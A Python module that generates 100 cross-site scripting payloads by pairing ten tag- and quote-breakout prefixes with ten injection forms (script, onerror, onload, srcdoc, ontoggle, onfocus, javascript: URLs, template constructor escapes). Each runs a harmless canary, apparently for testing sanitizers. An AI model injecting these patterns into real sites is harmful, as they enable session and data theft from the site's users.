"""100 texts that would run as a script where a page took them for markup."""

from __future__ import annotations

CALL = "window.canary=1"

_HEADS = ("", '"', "'", '">', "'>", "-->", "</title>", "</style>", "</script>", "</textarea>")
_BODIES = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<details open ontoggle={CALL}>",
    f" autofocus onfocus={CALL} x=",
    f"javascript:{CALL}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
)

PAYLOADS = tuple(head + body for head in _HEADS for body in _BODIES)
